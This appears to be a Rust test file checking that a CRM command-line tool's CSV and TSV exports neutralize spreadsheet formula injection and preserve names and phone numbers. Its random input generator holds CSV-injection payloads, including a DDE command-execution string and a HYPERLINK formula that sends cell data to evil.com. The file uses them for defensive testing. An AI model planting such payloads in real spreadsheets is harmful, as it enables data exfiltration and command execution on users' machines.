//! Promise 18: names cannot bring formulas into spreadsheets, and come back as they were; phones that start with + too.
//!
//! `PIVOTAL_PROOF=full cargo test --test promises inert_cells -- --ignored --nocapture`

use serde_json::Value;
use tempfile::TempDir;

use crate::hostile_strings::quoted;
use crate::proof::{self, Dice};
use crate::support::command::{Ran, json, pivotal};

/// What makes a spreadsheet calculate.
const SIGNS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// What spreadsheets part cells by, whatever the table was written with: the semicolon in half of Europe.
const SEPARATORS: [u8; 4] = *b",;\t|";

/// Returns the cells of a table that a spreadsheet would take for formulas, whatever it parts cells by, and counts them
/// all.
fn live_cells(table: &str) -> (usize, Vec<String>) {
    let found = SEPARATORS.map(|separator| live_cells_between(table, separator));
    let count = found.iter().map(|(count, _)| count).sum();
    (count, found.into_iter().flat_map(|(_, live)| live).collect())
}

fn live_cells_between(table: &str, delimiter: u8) -> (usize, Vec<String>) {
    let table = table.strip_prefix('\u{feff}').unwrap_or(table);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .delimiter(delimiter)
        .flexible(true)
        .from_reader(table.as_bytes());
    let (mut count, mut live) = (0, Vec::new());
    for row in reader.records() {
        let row = row.expect("a row");
        count += row.len();
        live.extend(
            row.iter()
                // What stands around a cell in a table that is parted otherwise.
                .filter(|cell| cell.trim_start_matches('"').starts_with(SIGNS))
                .map(str::to_owned),
        );
    }
    (count, live)
}

fn ran(home: &TempDir, arguments: &[&str], input: &str) -> Ran {
    let file = home.path().join("input");
    std::fs::write(&file, input).expect("written");
    let output = pivotal(home.path())
        .args(arguments)
        .stdin(std::fs::File::open(&file).expect("opened"))
        .output();
    output.expect("started").into()
}

/// Returns the people of a customer as they are, sorted.
fn people(home: &TempDir) -> Vec<String> {
    let document = json(home.path(), ["contact", "list", "1"]);
    let rows = document["contacts"].as_array().expect("a list").clone();
    let mut rows: Vec<String> = rows
        .iter()
        .map(|row| {
            let cells = ["name", "email", "title", "phone"].map(|field| row[field].to_string());
            cells.join(" | ")
        })
        .collect();
    rows.sort();
    rows
}

fn customers(home: &TempDir) -> Vec<String> {
    let document = json(home.path(), ["customer", "list"]);
    let rows = document["customers"].as_array().expect("a list").clone();
    let told = |row: &Value| {
        format!(
            "{} {} {} {} {}",
            row["name"], row["domain"], row["plan"], row["owner"]["name"], row["tags"]
        )
    };
    let mut rows: Vec<String> = rows.iter().map(told).collect();
    rows.sort();
    rows
}

/// Throws a text that begins as a formula does, behind apostrophes and blanks too.
fn formula(dice: &mut Dice) -> String {
    let before = dice.pick(&["", "", "", "'", "''", " ", "\t", "\u{feff}", "\""]);
    let sign = dice.pick(&["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n+"]);
    let rest = dice.pick(&[
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.com?\"&A1,\"x\")",
        "49 30 1234567",
        "SUM(A1:A9)",
        "2+5+cmd",
        "a,b\"c\"",
        "x",
        "#",
        " ",
    ]);
    let words = dice.pick(&[
        "Ann;", "a|", "x,", "a;\"", "b;;", "c,'", "", "", "", "", "", "", "", "", "", "",
    ]);
    format!("{words}{before}{sign}{rest}")
}

fn tables(rows: usize) {
    let mut dice = Dice::new(118);
    let home = crate::support::folder();
    let mut table = "name,domain,owner,plan,tags\n".to_owned();
    for number in 0..rows.div_ceil(10) {
        let [name, owner, plan, tag] = std::array::from_fn(|_| formula(&mut dice));
        let owner = quoted(&format!("{owner} <c{number}@us.com>"));
        let tag = tag.replace([',', ' '], "");
        table.push_str(&format!(
            "{},a{number}.com,{owner},{},{}\n",
            quoted(&format!("{name}{number}")),
            quoted(&plan),
            quoted(&tag)
        ));
    }
    let taken = ran(&home, &["customer", "import", "-"], &table);
    assert_eq!(taken.code, Some(0), "{}", taken.err);
    let mut table = "name,email,title,phone\n".to_owned();
    for row in 0..rows {
        // A formula is no name, so that its row would be left out.
        let name = dice.pick(&["Ann Lee", "\"Lee, Ann\"", "Dana O'Neill", "王小明"]);
        let title = quoted(&formula(&mut dice));
        // What has not the shape of a phone would be flagged too.
        let phone = dice.pick(&["+49 30 1234567", "+1 (212) 555-0101", "030 1234567", ""]);
        let email = dice.pick(&["+p", "-p", "=p", "p"]);
        table.push_str(&format!("{name},{email}{row}@a0.com,{title},{phone}\n"));
    }
    let taken = ran(&home, &["contact", "import", "1", "-"], &table);
    assert_eq!(taken.code, Some(0), "{}", taken.err);
    let (mut cells, mut live) = (0, Vec::new());
    let mut exported = Vec::new();
    for arguments in [
        &["export", "contacts", "--customer", "1", "--format", "csv"][..],
        &["export", "contacts", "--customer", "1", "--format", "tsv"],
        &["export", "customers", "--format", "csv"],
        &["export", "customers", "--format", "tsv"],
        &["history", "1", "--export", "csv"],
    ] {
        let out = ran(&home, arguments, "").out;
        let (count, found) = live_cells(&out);
        cells += count;
        live.extend(found);
        exported.push(out);
    }
    let (before, there) = (people(&home), customers(&home));
    let signed = before.iter().filter(|row| row.contains("| \"+49")).count();
    let mut changed: Vec<String> = Vec::new();
    let mut compares = |before: &[String], after: &[String]| {
        assert_eq!(before.len(), after.len());
        let pairs = before.iter().zip(after).filter(|(a, b)| a != b);
        changed.extend(pairs.map(|(a, b)| format!("{a} became {b}")));
    };
    for (contacts, companies) in [(&exported[0], &exported[2]), (&exported[1], &exported[3])] {
        let fresh = crate::support::folder();
        let taken = ran(&fresh, &["customer", "import", "-"], companies);
        assert_eq!(taken.code, Some(0), "{}", taken.err);
        compares(&there, &customers(&fresh));
        let place = crate::support::folder();
        json(place.path(), ["customer", "add", "Acme", "--domain", "a0.com"]);
        let taken = ran(&place, &["contact", "import", "1", "-"], contacts);
        assert_eq!(taken.code, Some(0), "{}", taken.err);
        compares(&before, &people(&place));
    }
    println!(
        "promise 18: {cells} cells of {} people and {} customers exported ({signed} phones that start with +): {} live, {} rows changed by the way out and in",
        before.len(),
        there.len(),
        live.len(),
        changed.len()
    );
    assert!(before.len() > rows / 2 && signed > rows / 100, "they were taken");
    assert!(live.is_empty(), "{:?}", &live[..live.len().min(10)]);
    assert!(changed.is_empty(), "{:#?}", &changed[..changed.len().min(10)]);
}

#[test]
fn no_cell_of_an_export_is_a_formula() {
    tables(400);
}

#[test]
#[ignore = "a minute: PIVOTAL_PROOF=full cargo test --test promises inert_cells -- --ignored --nocapture"]
fn no_cell_of_a_large_export_is_a_formula() {
    tables(proof::of(1_000, 20_000));
}

#[test]
fn the_control_is_found_a_table_that_is_written_as_it_is() {
    let mut dice = Dice::new(118);
    let rows: Vec<[String; 2]> = (0..200).map(|_| [formula(&mut dice), "x".to_owned()]).collect();
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in &rows {
        writer.write_record(row).expect("written");
    }
    let table = String::from_utf8(writer.into_inner().expect("whole")).expect("text");
    let (_, live) = live_cells_between(&table, b',');
    assert!(live.len() > 50, "{}", live.len());
    // Cells that are inert between commas alone are live between semicolons.
    let mut writer = csv::Writer::from_writer(Vec::new());
    for _ in 0..50 {
        writer.write_record(["Bo", "Ann;=1+1"]).expect("written");
    }
    let table = String::from_utf8(writer.into_inner().expect("whole")).expect("text");
    assert_eq!(live_cells_between(&table, b',').1.len(), 0);
    assert_eq!(live_cells_between(&table, b';').1.len(), 50);
}
